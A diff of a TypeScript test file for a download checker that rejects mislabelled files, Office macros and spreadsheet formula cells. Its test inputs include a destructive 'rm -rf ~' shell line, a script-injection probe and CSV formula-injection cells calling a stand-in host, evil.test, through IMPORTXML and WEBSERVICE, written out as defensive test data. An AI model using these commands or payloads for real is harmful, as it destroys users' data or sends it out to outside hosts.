@@ -4,35 +4,51 @@ import fc from "fast-check";
 import { zipSync } from "fflate";
 import { describe, expect, test } from "vitest";
 import { checkDownload } from "../generator/content/check-download.ts";
+import { findOfficeFault } from "../generator/content/office-macros.ts";
 import { office, pdf } from "./support/documents.ts";
 import { findOnDisk } from "./support/find-problems.ts";
 import { brief, fuzzing } from "./support/usual-files.ts";
 
-/** What is said of a file; undefined for one that's fine. */
-const judge = async (kind: string, bytes: string | Buffer) =>
-  (await checkDownload(kind, Buffer.from(bytes)))?.what;
+/** What is said of a file, with advice; undefined for one that's fine. */
+async function judge(kind: string, bytes: string | Buffer) {
+  const fault = await checkDownload(kind, Buffer.from(bytes));
+  if (fault) expect(fault.advice).toMatch(/^[A-Z].+\.$/);
+  return fault?.what;
+}
 
+const text = (written: string) => Buffer.from(written);
 const page = "<< /Type /Page /Contents (Read /JavaScript: The Good Parts) >>";
 const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
 
 describe("the bytes of a file", () => {
   test.each([
-    ["pdf", "<!DOCTYPE html><script>alert(1)</script>"],
-    ["pdf", "\n <svg xmlns='http://www.w3.org/2000/svg'/>"],
-    ["pdf", `MZ${"\0".repeat(200)}`],
-    ["pdf", "\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0003\0"],
-    ["pdf", "#!/bin/sh\nrm -rf ~\n"],
-    ["pdf", office("docx")],
-    ["docx", pdf([catalog])],
-    ["docx", office("xlsx")],
-    ["docx", Buffer.from(zipSync({ "run.exe": Buffer.from("MZ") }))],
-    ["xlsx", "name,hours\nAna,2\n"],
-    ["csv", "<html><body>"],
-    ["csv", pdf([catalog])],
-    ["csv", `MZ${"\0".repeat(200)}`],
-    ["ics", "name,hours\n"],
-  ])("called %s, and something else: refused (%#)", async (kind, bytes) => {
-    expect(await judge(kind, bytes)).toMatch(/^isn't what its name says: it's ./);
+    ["pdf", "<!DOCTYPE html><script>alert(1)</script>", "a page of the web"],
+    ["pdf", "\n <svg xmlns='http://www.w3.org/2000/svg'/>", "a page of the web"],
+    ["pdf", `MZ${"\0".repeat(200)}`, "a file of the kind exe"],
+    ["pdf", "\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0003\0", "a file of the kind elf"],
+    ["pdf", "#!/bin/sh\nrm -rf ~\n", "a script"],
+    ["pdf", "\0\u0001\u0002", "damaged"],
+    ["pdf", office("docx"), "a file of the kind docx"],
+    ["docx", pdf([catalog]), "pdf"],
+    ["docx", office("xlsx"), "a file of the kind xlsx"],
+    ["docx", Buffer.from(zipSync({ "run.exe": Buffer.from("MZ") })), "a file of the kind zip"],
+    ["xlsx", "name,hours\nAna,2\n", "plain text"],
+    ["csv", "<html><body>", "a page of the web"],
+    ["csv", pdf([catalog]), "pdf"],
+    ["csv", `MZ${"\0".repeat(200)}`, "a file of the kind exe"],
+    ["ics", "name,hours\n", "plain text"],
+    ["svg", "<html><body>", "a page of the web"],
+    ["svg", "name,hours\n", "plain text"],
+  ])("called %s, and something else: refused (%#)", async (kind, bytes, what) => {
+    expect(await judge(kind, bytes)).toContain(`isn't what its name says: it's ${what}`);
+  });
+  test.each([
+    ["svg", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
+    ["svg", "<svg>"],
+    ["csv", "\uFEFFname\thours\r\nAna\t2\r\n"],
+    ["ics", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"],
+  ])("called %s, and that: fine (%#)", async (kind, bytes) => {
+    expect(await judge(kind, bytes)).toBeUndefined();
   });
   test("are those of a program whatever the rest of it is", async () => {
     await fc.assert(
@@ -98,11 +114,30 @@ describe("a document of Office", () => {
     ["macros of Excel 4", "/xl/macros.xml", "application/vnd.ms-excel.macrosheet+xml"],
     ["a control", "/word/a.xml", "application/vnd.ms-office.activeX+xml"],
   ])("with %s: refused", async (_, part, type) => {
-    expect(await judge("docx", office("docx", { [part]: type }))).toBe("has macros in it");
+    for (const kind of ["docx", "xlsx", "pptx"] as const)
+      expect(await judge(kind, office(kind, { [part]: type }))).toBe("has macros in it");
   });
-  test("that's cut off: refused", async () => {
-    const whole = office("docx");
-    expect(await judge("docx", whole.subarray(0, whole.length - 40))).toMatch(/damaged/);
+  test.each([
+    ["with two bytes for each letter", (text: string) => Buffer.from(`\uFEFF${text}`, "utf16le")],
+    ["with two bytes, and nothing that says so", (text: string) => Buffer.from(text, "utf16le")],
+  ])("whose list of parts is written %s: its macros are found", (_, encode) => {
+    const list = '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>';
+    const bytes = zipSync({ "[Content_Types].xml": encode(list) });
+    expect(findOfficeFault(bytes)?.what).toBe("has macros in it");
+  });
+  test.each([
+    ["cut off", office("docx").subarray(0, -40)],
+    ["without a list of its parts", zipSync({ "a.xml": Buffer.from("<a/>") })],
+    [
+      "with two lists of its parts",
+      zipSync({ "[Content_Types].xml": text("<a/>"), "[content_types].xml": text("<a/>") }),
+    ],
+    [
+      "with a list of its parts that's too long",
+      zipSync({ "[Content_Types].xml": text(" ".repeat(1_000_001)) }),
+    ],
+  ])("%s: refused", (_, bytes) => {
+    expect(findOfficeFault(bytes)?.what).toMatch(/damaged/);
   });
 });
 
@@ -120,11 +155,16 @@ describe("a table", () => {
     '=-(1)+IMPORTXML("https://evil.test/","//a")',
     '＝WEBSERVICE("https://evil.test/")',
   ])("with the cell %s: refused at its place", async (cell) => {
-    const text = `name,note\nAna,${cell}\n`;
+    const table = `name,note\nAna,${cell}\n`;
     for (const end of ["\n", "\r\n", ";", "\t"]) {
-      const fault = await checkDownload("csv", Buffer.from(text.replaceAll("\n", end)));
+      const typed = table.replaceAll("\n", end);
+      const fault = await checkDownload("csv", Buffer.from(typed));
       expect(fault?.what).toMatch(/has a formula/);
-      expect(fault?.place?.start).toBe(text.replaceAll("\n", end).indexOf(cell));
+      expect(fault?.advice).toMatch(/^[A-Z].+\.$/);
+      expect(fault?.place?.text).toBe(typed);
+      const start = typed.indexOf(cell);
+      expect(fault?.place?.start).toBe(start);
+      expect(typed.slice(start, fault?.place?.end)).toBe(cell.split(/[,;]/)[0]);
     }
   });
   test.each([
